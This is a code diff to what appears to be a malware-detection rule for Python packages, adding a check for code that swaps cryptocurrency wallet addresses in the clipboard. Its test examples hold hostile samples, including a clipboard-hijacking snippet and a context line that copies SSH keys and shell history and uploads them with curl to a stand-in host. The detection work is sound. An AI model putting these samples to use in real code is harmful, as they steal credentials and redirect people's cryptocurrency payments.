@@ -6,7 +6,7 @@ import re
 from collections.abc import Iterator
 
 from pratique.facts.model import PackageFacts
-from pratique.facts.python.model import Does
+from pratique.facts.python.model import Call, Does
 from pratique.facts.shell import read_shell
 from pratique.finding import Behaviour, Finding, Phase, Severity
 from pratique.rules.claims import calls, claim, command, when
@@ -20,6 +20,11 @@ _KEPT = re.compile(r"(?:^|[;&|]\s*)(?:/usr/bin/)?(?:env|printenv|set)\s*(?:\|[^|
 """Commands that put the whole environment into a file."""
 
 
+_CLIPBOARD = ("pyperclip.", "clipboard.", "win32clipboard.", "tkinter.")
+_WALLET = re.compile(r"bc1[a-z0-9]{25,60}|0x[0-9a-fA-F]{40}|[13T][1-9A-HJ-NP-Za-km-z]{25,34}")
+"""The address of a wallet: two kinds of Bitcoin's, Ethereum's, Tron's."""
+
+
 def _check(facts: PackageFacts) -> Iterator[Finding]:
     filled = dropped(facts)
     for file in facts.python:
@@ -29,6 +34,9 @@ def _check(facts: PackageFacts) -> Iterator[Finding]:
     for path, call in calls(facts):
         if call.does & {Does.SEND, Does.FETCH}:
             yield from sent(path, call)
+        elif _replaces_address(call):
+            message = f"puts the address of a wallet into the clipboard {when(call.phase)}"
+            yield claim(ID, Behaviour.THEFT, path, call, message, severity=Severity.CRITICAL)
         elif Does.RUN_PROCESS in call.does:
             if read_shell(command(call)).steals:
                 yield leaving(path, call, "secrets", (), sure=True)
@@ -39,6 +47,12 @@ def _check(facts: PackageFacts) -> Iterator[Finding]:
             elif call.phase is Phase.INSTALL and _KEPT.search(command(call)):
                 message = f"keeps the whole environment in a file {when(call.phase)}"
                 yield claim(ID, Behaviour.THEFT, path, call, message, severity=Severity.CRITICAL)
+
+
+def _replaces_address(call: Call) -> bool:
+    """Whether it puts a wallet's address, which stands in the code, where a person has copied another one."""
+    given = [a for key, a in call.arguments.items() if key != "path"] if call.name.startswith(_CLIPBOARD) else []
+    return any(a.known and _WALLET.fullmatch(a.text.strip()) for a in given)
 
 
 RULE = Rule(
@@ -103,6 +117,13 @@ RULE = Rule(
                 "pkg/__init__.py": "import os, shutil\ndef run(to):\n    shutil.copytree('/home/u/.ssh', to + '/s')\n"
                 "    shutil.copyfile('/home/u/.bash_history', to + '/h')\n"
                 "    getattr(os, 'sys' + 'tem')('curl -F file=@' + to + '.zip https://c.example.invalid/up')\n"
+            },
+        ),
+        Example(
+            title="another wallet than the one that was copied",
+            files={
+                "pkg/__init__.py": "import pyperclip as p\ndef watch():\n    if p.paste().startswith('0x'):\n"
+                "        p.copy('0x0000000000000000000000000000000000000000')\n"
             },
         ),
         Example(
